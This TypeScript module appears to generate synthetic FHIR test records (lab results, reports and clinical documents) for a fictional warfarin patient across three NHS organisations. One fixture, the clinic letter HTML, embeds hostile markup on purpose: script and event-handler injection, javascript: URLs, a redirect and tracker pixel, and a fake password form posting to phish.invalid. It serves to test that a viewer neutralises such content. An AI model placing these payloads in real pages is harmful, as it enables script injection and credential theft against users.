/**
 * Results and documents: tests and letters already done elsewhere. One person, Mr Harold
 * Ainsworth (on warfarin for a mechanical mitral valve, with type 2 diabetes and chronic
 * kidney disease), has them at three organisations: the GP's anticoagulation clinic and
 * chronic disease reviews, the acute trust's laboratory during an admission (one critical
 * potassium), and the community team's observations. Codes: SNOMED CT from the UK
 * Pathology Bounded Code List at the GP, LOINC and SNOMED CT at the acute trust (so the
 * same test groups across both), units as each sends them (haemoglobin in g/dL in an old
 * hospital result, g/L since). Documents: a discharge summary (PDF), a clinic letter in
 * HTML carrying hostile markup, a large scanned-record PDF, a Word letter the viewer does
 * not open, a psychology report labelled R + PSY, and a letter whose Binary alone is
 * labelled R + SEX; and at the community team a care summary held as a Composition.
 */
import type { Binary, Coding, Composition, DiagnosticReport, DocumentReference, Observation, Reference } from 'fhir/r4';
import type { RecordContext } from './context';
import { instantBefore } from './clock';
import type { PersonPlan } from './plans';
import { simplePdf, toBase64, wrap, type PdfPage } from './pdf';
import { DMD, LOINC, SNOMED, V3_ACT_CODE, V3_CONFIDENTIALITY } from './systems';

export const RESULTS_PERSON: PersonPlan = {
  key: 'ainsworth-harold', prefix: 'Mr', given: 'Harold', family: 'Ainsworth', gender: 'male', birthDate: '1946-02-18', region: 'cambs',
  conditions: ['hypertension', 'diabetes', 'ckd'], allergies: [], flags: [],
  contacts: { 'riverside-gp': 10, 'ouse-valley-acute': 3, 'ouse-community': 4 },
};

const UCUM = 'http://unitsofmeasure.org';
const INTERPRETATION = 'http://terminology.hl7.org/CodeSystem/v3-ObservationInterpretation';
const CATEGORY = 'http://terminology.hl7.org/CodeSystem/observation-category';
const DR_CATEGORY = 'http://terminology.hl7.org/CodeSystem/v2-0074';

interface Test {
  name: string;
  sct: string;
  loinc: string;
  unit?: string;
  ucum?: string;
  low?: number;
  high?: number;
  rangeText?: string;
}

/** The tests, with UK reference ranges for an adult man. */
export const TESTS = {
  hba1c: { name: 'HbA1c level (IFCC standardised)', sct: '999791000000106', loinc: '59261-8', unit: 'mmol/mol', ucum: 'mmol/mol', low: 20, high: 41 },
  egfr: { name: 'eGFR using creatinine (CKD-EPI) per 1.73 square metres', sct: '1011481000000105', loinc: '98979-8', unit: 'mL/min/1.73m2', ucum: 'mL/min/{1.73_m2}', low: 90 },
  creatinine: { name: 'Serum creatinine level', sct: '1000731000000107', loinc: '14682-9', unit: 'umol/L', ucum: 'umol/L', low: 59, high: 104 },
  potassium: { name: 'Serum potassium level', sct: '1000651000000109', loinc: '2823-3', unit: 'mmol/L', ucum: 'mmol/L', low: 3.5, high: 5.3 },
  haemoglobin: { name: 'Haemoglobin concentration', sct: '1022431000000105', loinc: '718-7', unit: 'g/L', ucum: 'g/L', low: 130, high: 170 },
  inr: { name: 'International normalised ratio', sct: '440685005', loinc: '6301-6', low: 2, high: 3, rangeText: 'Target range for warfarin: 2.0 to 3.0' },
} satisfies Record<string, Test>;

type Flag = 'HH' | 'LL' | 'H' | 'L' | 'N';
const FLAG_DISPLAY: Record<Flag, string> = { HH: 'Critical high', LL: 'Critical low', H: 'High', L: 'Low', N: 'Normal' };

interface Sample {
  test: Test;
  value: number;
  /** Days before the reference date. */
  days: number;
  /** The laboratory's flag; the GP's point-of-care device sends none. */
  flag?: Flag;
  /** A unit other than the test's usual one (old results). */
  unit?: { unit: string; ucum: string; low?: number; high?: number };
  note?: string;
}

function observation(ctx: RecordContext, s: Sample, style: 'gp' | 'acute' | 'community', performer: Reference): Observation {
  const t = s.test;
  const unit = s.unit ?? (t.unit ? { unit: t.unit, ucum: t.ucum as string, low: t.low, high: t.high } : undefined);
  const low = s.unit ? s.unit.low : t.low;
  const high = s.unit ? s.unit.high : t.high;
  const coding: Coding[] = style === 'acute'
    ? [{ system: LOINC, code: t.loinc, display: t.name }, { system: SNOMED, code: t.sct, display: t.name }]
    : [{ system: SNOMED, code: t.sct, display: t.name }];
  const q = (value: number) => ({ value, ...(unit ? { unit: unit.unit, system: UCUM, code: unit.ucum } : {}) });
  return {
    resourceType: 'Observation',
    id: ctx.nextId('Observation'),
    status: 'final',
    category: [{ coding: [{ system: CATEGORY, code: 'laboratory', display: 'Laboratory' }] }],
    code: { coding, text: t.name },
    subject: ctx.subject,
    effectiveDateTime: instantBefore(s.days, 9 * 60 + (s.days % 5) * 7),
    issued: instantBefore(s.days, 15 * 60),
    performer: [performer],
    valueQuantity: q(s.value),
    ...(s.flag ? { interpretation: [{ coding: [{ system: INTERPRETATION, code: s.flag, display: FLAG_DISPLAY[s.flag] }] }] } : {}),
    ...(low !== undefined || high !== undefined || t.rangeText
      ? { referenceRange: [{ ...(low !== undefined ? { low: q(low) } : {}), ...(high !== undefined ? { high: q(high) } : {}), ...(t.rangeText ? { text: t.rangeText } : {}) }] }
      : {}),
    ...(s.note ? { note: [{ text: s.note }] } : {}),
  };
}

const GP_SAMPLES = (): Sample[] => [
  // Anticoagulation clinic at the practice, point-of-care INR every four weeks or so.
  ...[[2.4, 330], [2.8, 302], [3.4, 274], [2.6, 246], [2.2, 218], [1.8, 190], [2.5, 162], [2.9, 134], [2.7, 22]].map(([value, days]) => ({ test: TESTS.inr, value: value as number, days: days as number })),
  { test: TESTS.hba1c, value: 58, days: 300, flag: 'H' }, { test: TESTS.hba1c, value: 54, days: 180, flag: 'H' }, { test: TESTS.hba1c, value: 61, days: 25, flag: 'H' },
  { test: TESTS.creatinine, value: 118, days: 300, flag: 'H' }, { test: TESTS.creatinine, value: 124, days: 180, flag: 'H' }, { test: TESTS.creatinine, value: 131, days: 25, flag: 'H' },
  { test: TESTS.egfr, value: 54, days: 300, flag: 'L' }, { test: TESTS.egfr, value: 51, days: 180, flag: 'L' }, { test: TESTS.egfr, value: 47, days: 25, flag: 'L' },
  { test: TESTS.potassium, value: 4.6, days: 300 }, { test: TESTS.potassium, value: 5.0, days: 180 }, { test: TESTS.potassium, value: 4.8, days: 25 },
  { test: TESTS.haemoglobin, value: 131, days: 300 }, { test: TESTS.haemoglobin, value: 128, days: 25, flag: 'L' },
];

/** The admission: INR high on arrival, the critical potassium, then treated. */
const ADMITTED = 60;
const ACUTE_SAMPLES = (): Sample[] => [
  { test: TESTS.inr, value: 4.9, days: ADMITTED, flag: 'H' }, { test: TESTS.inr, value: 3.1, days: ADMITTED - 2, flag: 'H' }, { test: TESTS.inr, value: 2.6, days: ADMITTED - 4, flag: 'N' },
  { test: TESTS.potassium, value: 6.8, days: ADMITTED, flag: 'HH', note: 'Critical result telephoned to Ward 7 at 10:12. Sample not haemolysed.' },
  { test: TESTS.potassium, value: 5.1, days: ADMITTED - 2, flag: 'N' },
  { test: TESTS.creatinine, value: 162, days: ADMITTED, flag: 'H' }, { test: TESTS.egfr, value: 36, days: ADMITTED, flag: 'L' },
  { test: TESTS.hba1c, value: 63, days: ADMITTED, flag: 'H' },
  { test: TESTS.haemoglobin, value: 118, days: ADMITTED, flag: 'L' },
  // From the hospital's archive, reported in g/dL before UK laboratories moved to g/L in 2013.
  { test: TESTS.haemoglobin, value: 14.1, days: 5300, unit: { unit: 'g/dL', ucum: 'g/dL', low: 13, high: 17 } },
];

function report(ctx: RecordContext, name: string, code: Coding, category: string, days: number, results: Observation[], conclusion: string, performer: Reference, presented?: string): DiagnosticReport {
  return {
    resourceType: 'DiagnosticReport',
    id: ctx.nextId('DiagnosticReport'),
    status: 'final',
    category: [{ coding: [{ system: DR_CATEGORY, code: category }] }],
    code: { coding: [code], text: name },
    subject: ctx.subject,
    effectiveDateTime: instantBefore(days, 9 * 60),
    issued: instantBefore(days, 16 * 60),
    performer: [performer],
    result: results.map((o) => ({ reference: `Observation/${o.id}` })),
    conclusion,
    ...(presented ? { presentedForm: [{ contentType: 'text/plain; charset=utf-8', data: btoa(presented), title: `${name} report` }] } : {}),
  };
}

function document(ctx: RecordContext, o: {
  title: string; type: Coding; days: number; contentType: string; data: string; size: number; fileTitle: string; author?: Reference; security?: Coding[]; binarySecurity?: Coding[];
}): [DocumentReference, Binary] {
  const binaryId = ctx.nextId('Binary');
  const docId = ctx.nextId('DocumentReference');
  const binary: Binary = {
    resourceType: 'Binary', id: binaryId, contentType: o.contentType, securityContext: { reference: `DocumentReference/${docId}` }, data: o.data,
    ...(o.binarySecurity ? { meta: { security: o.binarySecurity } } : {}),
  };
  const doc: DocumentReference = {
    resourceType: 'DocumentReference',
    id: docId,
    ...(o.security ? { meta: { security: o.security } } : {}),
    status: 'current',
    docStatus: 'final',
    type: { coding: [o.type], text: o.type.display },
    category: [{ coding: [{ system: SNOMED, code: '734163000', display: 'Care plan' }], text: 'Correspondence' }],
    subject: ctx.subject,
    date: instantBefore(o.days, 14 * 60),
    author: [o.author ?? ctx.author, ctx.organisation],
    custodian: ctx.organisation,
    description: o.title,
    content: [{ attachment: { contentType: o.contentType, url: `Binary/${binaryId}`, size: o.size, title: o.fileTitle, creation: instantBefore(o.days, 13 * 60) } }],
    context: { period: { start: instantBefore(o.days, 9 * 60) } },
  };
  return [doc, binary];
}

const bytes = (s: string) => new TextEncoder().encode(s);
const b64 = (u: Uint8Array) => toBase64(u);

const DISCHARGE: Coding = { system: SNOMED, code: '373942005', display: 'Discharge summary' };
const CLINIC_LETTER: Coding = { system: SNOMED, code: '371531000', display: 'Report of clinical encounter' };
const SCANNED: Coding = { system: SNOMED, code: '4241000179101', display: 'Laboratory report' };

/** The HTML clinic letter: readable content wrapped in markup that must never run or load. */
export const HOSTILE_LETTER_HTML = `<!doctype html><html><head><title>Anticoagulation clinic</title>
<script>window.parent.__hostileLetterRan = true; document.title = 'pwned';</script>
<style>body { display: none } .letter { background: url(https://tracker.invalid/pixel.png) }</style>
<meta http-equiv="refresh" content="0;url=https://phish.invalid/">
</head><body onload="window.__hostileLetterRan = true">
<div class="letter">
<h2>Anticoagulation clinic letter</h2>
<p>Dear Dr Patel,</p>
<p>I reviewed Mr Ainsworth in the anticoagulation clinic. His INR target remains <b>2.5 (range 2.0 to 3.0)</b> for his mechanical mitral valve.</p>
<img src="x" onerror="window.__hostileLetterRan = true">
<svg onload="window.__hostileLetterRan = true"><circle r="5"/></svg>
<iframe src="javascript:window.parent.__hostileLetterRan = true"></iframe>
<form action="https://phish.invalid/"><input name="password"><button>Sign in again</button></form>
<p>Please continue warfarin at the current dose and recheck the INR in four weeks. <a href="javascript:window.__hostileLetterRan = true">Dosing chart</a>
<a href="https://www.nhs.uk/medicines/warfarin/">NHS information about warfarin</a></p>
<p>Yours sincerely,<br>Dr Owen Price, Consultant Haematologist</p>
</div></body></html>`;

function dischargePdf(): Uint8Array {
  const pages: PdfPage[] = [
    { lines: ['Discharge summary', 'Ouse Valley Hospitals NHS Foundation Trust - Ward 7 (Cardiology)', 'Patient: AINSWORTH, Harold (Mr)', '',
      ...wrap('Admitted with breathlessness and an INR of 4.9 on warfarin. Serum potassium on admission 6.8 mmol/L (critical), treated with insulin-dextrose and calcium gluconate; repeat 5.1 mmol/L. Acute kidney injury on chronic kidney disease stage 3b (creatinine 162 umol/L).'),
      '', 'Medicines on discharge:', 'Warfarin sodium: dose as directed by the anticoagulation clinic (target INR 2.5)', 'Ramipril: withheld until renal function reviewed by GP',
    ] },
    { lines: ['Follow-up', ...wrap('GP to repeat urea and electrolytes within one week. Anticoagulation clinic to check INR within five days. Seen by the heart failure nurse before discharge.'), '', 'Signed: Dr Owen Price, Consultant Cardiologist'] },
  ];
  return simplePdf(pages, 'Discharge summary');
}

/** A scanned paper record: many pages of text (several hundred kilobytes). */
let largePdfBytes: Uint8Array | undefined;
function largePdf(): Uint8Array {
  return (largePdfBytes ??= buildLargePdf());
}

function buildLargePdf(pages = 240): Uint8Array {
  const list: PdfPage[] = [];
  for (let p = 1; p <= pages; p++) {
    const lines = [`Lloyd George record, page ${p} of ${pages}`];
    for (let l = 0; l < 48; l++) lines.push(`${1990 + (p % 30)}-${String((l % 12) + 1).padStart(2, '0')}-${String((l % 27) + 1).padStart(2, '0')}  Seen in surgery. Blood pressure reviewed, medication continued. Entry ${p}.${l + 1}`);
    list.push({ lines });
  }
  return simplePdf(list, 'Scanned records from previous practice');
}

const R: Coding = { system: V3_CONFIDENTIALITY, code: 'R', display: 'restricted' };
const PSY: Coding = { system: V3_ACT_CODE, code: 'PSY', display: 'psychiatry disorder information sensitivity' };
const SEX: Coding = { system: V3_ACT_CODE, code: 'SEX', display: 'sexuality and reproductive health information sensitivity' };

/** Adds this person's results and documents at one organisation. */
export function resultsAndDocuments(ctx: RecordContext): void {
  const lab: Reference = ctx.endpoint.kind === 'acute-hospital' ? { display: `${ctx.endpoint.organisationName} Pathology` } : ctx.organisation;
  if (ctx.endpoint.kind === 'gp-practice') {
    for (const s of GP_SAMPLES()) ctx.add(observation(ctx, s, 'gp', lab));
    ctx.add({
      resourceType: 'MedicationRequest', id: ctx.nextId('MedicationRequest'), status: 'active', intent: 'order', subject: ctx.subject,
      medicationCodeableConcept: { coding: [{ system: DMD, code: '319733000', display: 'Warfarin 1mg tablets' }], text: 'Warfarin sodium 1mg tablets' }, authoredOn: instantBefore(22, 10 * 60), requester: ctx.author,
      dosageInstruction: [{ text: 'As directed by the anticoagulation clinic (yellow book); target INR 2.5' }],
    });
    const large = largePdf();
    addDocument(ctx, { title: 'Scanned records from previous practice', type: SCANNED, days: 900, contentType: 'application/pdf', data: b64(large), size: large.length, fileTitle: 'lloyd-george.pdf' });
    const word = bytes('PK\u0003\u0004 not really a Word file');
    addDocument(ctx, { title: 'Referral to memory clinic (Word document)', type: CLINIC_LETTER, days: 400, contentType: 'application/msword', data: b64(word), size: word.length, fileTitle: 'referral.doc' });
    const sexual = bytes('Sexual health clinic letter: results discussed in person.');
    addDocument(ctx, { title: 'Letter from the sexual health clinic', type: CLINIC_LETTER, days: 500, contentType: 'text/plain', data: b64(sexual), size: sexual.length, fileTitle: 'letter.txt', binarySecurity: [R, SEX] });
  }
  if (ctx.endpoint.kind === 'acute-hospital') {
    const obs = ACUTE_SAMPLES().map((s) => ctx.add(observation(ctx, s, 'acute', lab)));
    const ue = obs.filter((o) => [TESTS.potassium.name, TESTS.creatinine.name, TESTS.egfr.name].includes(o.code.text ?? '') && o.effectiveDateTime === instantBefore(ADMITTED, 9 * 60 + (ADMITTED % 5) * 7));
    ctx.add(report(ctx, 'Urea and electrolytes', { system: SNOMED, code: '1020291000000106', display: 'Urea and electrolytes' }, 'CH', ADMITTED, ue,
      'Hyperkalaemia (critical) with acute kidney injury. Phoned to ward.', lab));
    ctx.add(report(ctx, 'XR chest', { system: SNOMED, code: '399208008', display: 'Plain chest X-ray' }, 'RAD', ADMITTED, [],
      'Cardiomegaly with small bilateral pleural effusions. Prosthetic mitral valve in place.', { display: 'Ouse Valley Radiology' },
      'XR chest (PA): Cardiomegaly. Small bilateral pleural effusions. Prosthetic mitral valve in place. No focal consolidation. Reported by Dr A Singh, Consultant Radiologist.'));
    const discharge = dischargePdf();
    addDocument(ctx, { title: 'Discharge summary: Ward 7 (Cardiology)', type: DISCHARGE, days: ADMITTED - 5, contentType: 'application/pdf', data: b64(discharge), size: discharge.length, fileTitle: 'discharge-summary.pdf' });
    const html = bytes(HOSTILE_LETTER_HTML);
    addDocument(ctx, { title: 'Anticoagulation clinic letter', type: CLINIC_LETTER, days: 30, contentType: 'text/html; charset=utf-8', data: b64(html), size: html.length, fileTitle: 'clinic-letter.html' });
  }
  if (ctx.endpoint.kind === 'community-health') {
    for (const days of [40, 12]) {
      ctx.add({
        resourceType: 'Observation', id: ctx.nextId('Observation'), status: 'final', subject: ctx.subject,
        category: [{ coding: [{ system: CATEGORY, code: 'vital-signs', display: 'Vital Signs' }] }],
        code: { coding: [{ system: LOINC, code: '85354-9', display: 'Blood pressure panel' }], text: 'Blood pressure' },
        effectiveDateTime: instantBefore(days, 11 * 60),
        performer: [ctx.author],
        component: [
          { code: { coding: [{ system: LOINC, code: '8480-6', display: 'Systolic blood pressure' }], text: 'Systolic' }, valueQuantity: { value: days === 40 ? 152 : 138, unit: 'mmHg', system: UCUM, code: 'mm[Hg]' } },
          { code: { coding: [{ system: LOINC, code: '8462-4', display: 'Diastolic blood pressure' }], text: 'Diastolic' }, valueQuantity: { value: days === 40 ? 91 : 84, unit: 'mmHg', system: UCUM, code: 'mm[Hg]' } },
        ],
      });
    }
    const psych = bytes('Memory assessment by the clinical psychologist: detailed findings.');
    addDocument(ctx, { title: 'Memory assessment: psychology report', type: CLINIC_LETTER, days: 150, contentType: 'text/plain', data: b64(psych), size: psych.length, fileTitle: 'psychology.txt', security: [R, PSY] });
    ctx.add(careSummary(ctx));
  }
}

export const CARE_SUMMARY_TITLE = 'Community nursing care summary';

/**
 * A Composition (FHIR R4 Composition, the shape of a structured document such as a care
 * summary): its content is its sections' narrative, with no attachment. Only the community
 * team holds one, so only that endpoint lists Composition in its CapabilityStatement.
 */
function careSummary(ctx: RecordContext): Composition {
  const div = (html: string) => `<div xmlns="http://www.w3.org/1999/xhtml">${html}</div>`;
  return {
    resourceType: 'Composition', id: ctx.nextId('Composition'), status: 'final',
    type: { coding: [{ system: SNOMED, code: '422735006', display: 'Summary clinical document' }], text: 'Care summary' },
    subject: ctx.subject, date: instantBefore(6, 16 * 60), author: [ctx.author], custodian: ctx.organisation, title: CARE_SUMMARY_TITLE,
    section: [
      { title: 'Nursing needs', text: { status: 'generated', div: div('<p>Leg ulcer (left gaiter): dressing changed twice weekly by the district nurses.</p>') } },
      { title: 'Equipment at home', text: { status: 'generated', div: div('<ul><li>Pressure-relieving mattress</li><li>Key safe: code held by the team</li></ul>') } },
      { title: 'Warfarin', text: { status: 'generated', div: div('<p>INR tested at home by the team; results sent to the GP anticoagulation clinic.</p>') } },
    ],
  };
}

function addDocument(ctx: RecordContext, o: Parameters<typeof document>[1]): void {
  const [doc, binary] = document(ctx, o);
  ctx.add(doc);
  ctx.add(binary);
}
